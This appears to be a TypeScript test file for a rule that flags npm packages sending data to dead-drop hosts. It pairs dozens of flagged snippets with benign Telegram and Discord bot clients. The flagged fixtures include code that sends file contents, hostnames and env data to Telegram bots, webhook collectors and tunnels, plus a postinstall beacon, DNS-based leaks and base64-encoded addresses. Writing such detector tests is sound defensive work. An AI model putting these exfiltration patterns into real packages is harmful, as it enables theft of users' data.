import { examine } from '../../../test/examine.ts';
import { sendsToDeadDrop } from './sends-to-dead-drop.ts';

/** Written in parts: no test names a host that somebody answers on. */
const collector = ['webhook', 'site'].join('.');
const telegram = ['api', 'telegram', 'org'].join('.');
const discord = ['discord', 'com'].join('.');
const tunnels = ['localtunnel', 'me'].join('.');
const workers = ['none', 'workers', 'dev'].join('.');

examine(sendsToDeadDrop, {
  speaks: [
    {
      when: 'what is read stands behind the bot that the package brings, in what it is asked',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `fetch('https://${telegram}/bot1234567890:' + 'A'.repeat(35) + '/' + globalThis.how(require('fs').readFileSync('a')))`,
      },
      weight: 'strong',
      says: ['sends data'],
    },
    {
      when: 'a variable says where a request goes, and stands in what it asks there as well',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const root = process.env.SECRET || 'https://${collector}'; fetch(root + '/' + process.env.SECRET)`,
      },
      weight: 'strong',
    },
    {
      when: 'what is read is sent through a tunnel',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `fetch('https://none.${tunnels}/', { method: 'POST', body: require('fs').readFileSync('a') })`,
      },
      weight: 'strong',
    },
    {
      when: 'a command tells the bot of the environment about the machine',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        '.env.example': 'TOKEN=',
        'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'weak',
    },
    {
      when: 'a webhook of the environment is asked to change a message',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const { HOOK_ID: id, HOOK_TOKEN: token, MESSAGE } = process.env; fetch('https://${discord}/api/v10/webhooks/' + id + '/' + token + '/messages/' + MESSAGE, { method: 'PATCH', body: require('os').hostname() })`,
      },
      weight: 'weak',
    },
    {
      when: 'the environment goes to code of the package, which may put a token into it',
      files: {
        'index.js': `const fill = e => { e.TOKEN = globalThis.specimen() }; fill(process.env); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'proof',
    },
    {
      when: 'the environment goes to code of the package, which may put something into it under any name',
      files: {
        'index.js': `const fill = (e, k) => { e [k] = globalThis.specimen() }; fill(process.env, 'TO' + 'KEN'); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'proof',
    },
    {
      when: 'the environment goes to code of the package that only asks it',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const ready = e => e.TOKEN; const [one] = Object.keys(process.env); const tell = (env = process.env) => { if (ready(env)) fetch('https://${telegram}/bot' + env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() }) }; tell()`,
      },
      weight: 'weak',
    },
    {
      when: 'one function sends to a collector and to the bot of the environment',
      files: {
        'index.js': `const post = (url, body) => fetch(url, { method: 'POST', body }); post('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', require('os').hostname()); post('https://${collector}/x', require('os').hostname())`,
      },
      weight: 'proof',
      says: [collector],
    },
    ...[
      `require('lodash').merge(process.env, { ['TO' + 'KEN']: globalThis.specimen() })`,
      `require('dotenv').populate(process.env, globalThis.specimen())`,
      `const fill = (e, k) => { e[k[0]] = globalThis.specimen() }; fill(process.env, ['TO' + 'KEN'])`,
      `const fill = e => { [e.TOKEN] = [globalThis.specimen()] }; fill(process.env)`,
      `const { assign } = Object; const fill = e => assign(e, globalThis.specimen()); fill(process.env)`,
    ].map(fill => ({
      when: `code fills what it then reads: ${fill}`,
      files: {
        'index.js': `${fill}; fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'proof' as const,
    })),
    {
      when: 'one function sends to a service and to the bot of the environment',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const post = (url, body) => fetch(url, { method: 'POST', body }); post('https://specimen.invalid/releases', 'x'); post('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', require('os').hostname())`,
      },
      weight: 'weak',
    },
    {
      when: 'a token is taken apart into the environment',
      files: {
        'index.js': `({ t: process.env.TOKEN } = { t: globalThis.specimen() }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'proof',
    },
    {
      when: 'another token is meant where the environment has none',
      files: {
        'index.js': `const { TOKEN = globalThis.specimen() } = process.env; fetch('https://${telegram}/bot' + TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'proof',
    },
    {
      when: 'the package starts itself anew in an environment of its own making',
      files: {
        'index.js': `if (!process.env.TOKEN) require('child_process').fork(__filename, { env: { TOKEN: globalThis.specimen() } }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'proof',
    },
    {
      when: 'a token stands encoded in the code that reads one from settings',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const fs = require('fs'), f = require('os').homedir() + '/.specimenrc'; fs.writeFileSync(f, JSON.stringify({ token: Buffer.from('${Buffer.from(`1234567890:${'INERT-'.repeat(6)}`).toString('base64')}', 'base64').toString() })); const { token } = JSON.parse(fs.readFileSync(f, 'utf8')); fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'an import tells the bot of the environment about the machine',
      files: {
        'index.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'one part of a webhook is of the environment and the rest stands in the code',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `fetch('https://${discord}/api/webhooks/' + process.env.ID + '/INERT', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'an import sends what it finds to the bot that is named when the command is started',
      files: {
        'package.json': { name: 'x', main: 'cli.js', bin: 'cli.js' },
        'cli.js': `const argv = require('yargs/yargs')(process.argv.slice(2)).argv; fetch('https://${telegram}/bot' + argv.token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'a bot has its token from the environment, and another one where that is not set',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `fetch('https://${telegram}/bot' + (process.env.TOKEN || 'INERT') + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'the token is a member of something that is no settings, where the environment has none',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const own = require('./own'); const token = process.env.TOKEN || own.token; fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
        'own.js': `exports.token = globalThis.specimen();`,
      },
      weight: 'strong',
    },
    {
      when: 'the token is put into the environment by the package itself',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `process.env.TOKEN ??= 'INERT'; fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'a file of the environment comes with the package',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        '.env': 'TOKEN=INERT',
        'cli.js': `require('dotenv').config({ path: __dirname + '/.env' }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'the settings that name the bot come with the package',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const { token } = JSON.parse(require('fs').readFileSync(__dirname + '/bot.json')); fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'a file of the user goes into the question of an address, and whose bot it is nobody says',
      files: {
        'package.json': { name: 'x', main: 'index.js' },
        'index.js': `const text = require('fs').readFileSync(require('os').homedir() + '/.specimenrc', 'utf8'); fetch('https://${telegram}/bot' + globalThis.specimen() + '/sendMessage?text=' + text)`,
      },
      weight: 'strong',
    },
    {
      when: 'a package that is installed tells the bot of the environment about the machine',
      files: {
        'package.json': { name: 'x', scripts: { postinstall: 'node index.js' } },
        'index.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'proof',
    },
    {
      when: 'a caller names the method, and not the bot',
      files: {
        'index.js': `exports.call = method => fetch('https://${telegram}/bot' + globalThis.specimen() + '/' + method, { method: 'POST', body: require('os').hostname() })`,
      },
      weight: 'strong',
    },
    {
      when: 'a cheap host is asked at import, and is sent what another file reads when somebody calls',
      files: {
        'index.js': `const { put } = require('./state'); const { load } = require('./files'); put('', {}); exports.push = async key => put(key, await load(key))`,
        'state.js': `exports.put = (key, state) => fetch('https://${workers}/' + key, { method: 'PUT', body: JSON.stringify(state) })`,
        'files.js': `const { readFile } = require('fs/promises'); exports.load = async key => JSON.parse(await readFile(key, 'utf8'))`,
      },
      weight: 'weak',
      says: ['connects to'],
    },
    {
      when: 'what another file reads at import goes to a cheap host',
      files: {
        'index.js': `const { put } = require('./state'); const { load } = require('./files'); load('.specimen').then(state => put('x', state)); exports.push = async key => put(key, await load(key))`,
        'state.js': `exports.put = (key, state) => fetch('https://${workers}/' + key, { method: 'PUT', body: JSON.stringify(state) })`,
        'files.js': `const { readFile } = require('fs/promises'); exports.load = async key => JSON.parse(await readFile(key, 'utf8'))`,
      },
      weight: 'strong',
      says: ['sends data to'],
    },
    {
      when: 'an import posts what it knows to a collector',
      files: { 'index.js': `fetch('https://${collector}/0', { method: 'POST', body: require('os').hostname() })` },
      weight: 'proof',
      says: ['a collector of requests'],
    },
    {
      when: 'an import only connects to a bare address',
      files: { 'index.js': `require('http').get('http://192.0.2.7/x')` },
      weight: 'strong',
      says: ['192.0.2.7'],
    },
    { when: 'a socket goes to a bare address', files: { 'index.js': `require('net').connect(4444, '192.0.2.7')` }, weight: 'strong' },
    {
      when: 'a name is looked up that carries data',
      files: { 'index.js': `require('dns').lookup(process.env.USER + '.${['oast', 'fun'].join('.')}', () => {})` },
      weight: 'proof',
    },
    {
      when: 'the address is encoded',
      files: { 'index.js': `fetch(atob('${Buffer.from(`https://${collector}/0`).toString('base64')}'))` },
      weight: 'strong',
    },
    {
      when: 'a call posts to a hidden service',
      files: { 'index.js': `exports.log = () => fetch('http://specimen.onion/x')` },
      weight: 'weak',
    },
    { when: 'an import asks a cheap host', files: { 'index.js': `fetch('https://${workers}/x')` }, weight: 'weak' },
    {
      when: 'datagrams go to an address without a name when a function is called',
      files: {
        'index.js': `const dgram = require('dgram'), kept = []; exports.keep = one => { kept.push(one); if (kept.length > 9) dgram.createSocket('udp4').send(JSON.stringify(kept), 5514, '203.0.113.40'); };`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a service is asked for a tunnel',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const opt = { host: 'https://${tunnels}', key: require('fs').readFileSync(process.argv[2]) }; require('axios').get(opt.host + '/?new', opt)`,
      },
    },
    {
      when: 'the bot of a caller is asked where a file of it lies, and that is fetched',
      files: {
        'index.js': `class Api { constructor(token) { this.token = token } async call(method, body) { const answer = await fetch('https://${telegram}/bot' + this.token + '/' + method, { method: 'POST', body: JSON.stringify(body) }); return (await answer.json()).result } async download(id) { const file = await this.call('getFile', { file_id: id }); return fetch('https://${telegram}/file/bot' + this.token + '/' + file.file_path) } } exports.Api = Api;`,
      },
    },
    {
      when: 'a command has the token of its bot from the environment',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        '.env.example': 'TOKEN=',
        'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/getUpdates')`,
      },
    },
    {
      when: 'a command has the token of its bot from the environment, and where its user runs the API of bots himself',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        '.env.example': 'TOKEN=',
        'cli.js': `const root = process.env.BOT_API || 'https://${telegram}'; fetch(root + '/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: process.argv[2] })`,
      },
    },
    {
      when: 'the token of the environment goes to the bot API that its user runs, or to that of all bots, from a class that is made by a caller',
      files: {
        'index.js': `exports.Bot = class { constructor(token = process.env.TOKEN) { this.base = (process.env.BOT_API || 'https://${telegram}') + '/bot' + token } send(text) { return fetch(this.base + '/sendMessage', { method: 'POST', body: text }) } }`,
      },
    },
    {
      when: 'a command has the token of its bot from the environment, or else from settings of its user',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const fs = require('fs'); const settings = JSON.parse(fs.readFileSync(require('os').homedir() + '/.tell.json', 'utf8')); const token = process.env.TOKEN || settings.token; fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: settings.chat, text: process.argv[2] }) })`,
      },
    },
    {
      when: 'a bot has its token from settings of the project',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `import { Bot } from './bot.js'; const { default: config } = await import(process.cwd() + '/bot.config.js'); await new Bot(config.token).start();`,
        'bot.js': `export class Bot { #base; constructor(token) { this.#base = 'https://${telegram}/bot' + token } start() { return fetch(this.#base + '/getMe') } }`,
      },
    },
    {
      when: 'a token that was set as an option of the command goes nowhere but into the address of the bot',
      files: {
        'package.json': { name: 'x', bin: 'cli.js' },
        'cli.js': `const { program } = require('commander'); program.option('--token <token>').action(({ token }) => fetch('https://${telegram}/bot' + token + '/getMe'));`,
      },
    },
    {
      when: 'whoever makes a transport names the bot, and the host stands apart from it',
      files: {
        'index.js': `const https = require('https'); exports.Transport = class { constructor({ token }) { this.token = token } log(text) { https.request({ host: '${telegram}', path: '/bot' + this.token + '/sendMessage', method: 'POST' }).end(text) } }`,
      },
    },
    {
      when: 'whoever makes a transport names the webhook',
      files: {
        'index.js': `exports.Transport = class { constructor({ id, token }) { this.url = 'https://${discord}/api/webhooks/' + id + '/' + token } log(text) { return fetch(this.url, { method: 'POST', body: text }) } }`,
      },
    },
    { when: 'a list of hosts is only data', files: { 'index.js': `module.exports = ['https://${collector}/', 'http://192.0.2.7']` } },
    {
      when: 'it talks to this machine and its network',
      files: {
        'index.js': `fetch('http://127.0.0.1:1/'); fetch('http://localhost:1/'); fetch('http://0.0.0.0/'); fetch('http://192.168.1.1/')`,
      },
    },
    {
      when: 'the caller brings the webhook',
      files: { 'index.js': `exports.post = (url, text) => fetch(url, { method: 'POST', body: text })` },
    },
    { when: 'it asks a service with a name', files: { 'index.js': `fetch('https://api.acme.invalid/')` } },
    {
      when: 'a group of its own network is asked who is there',
      files: {
        'index.js': `const dgram = require('dgram'); exports.find = () => { const socket = dgram.createSocket('udp4'); socket.send('M-SEARCH * HTTP/1.1', 1900, '239.255.255.250'); socket.send('wake', 9, '255.255.255.255'); };`,
      },
    },
  ],
});
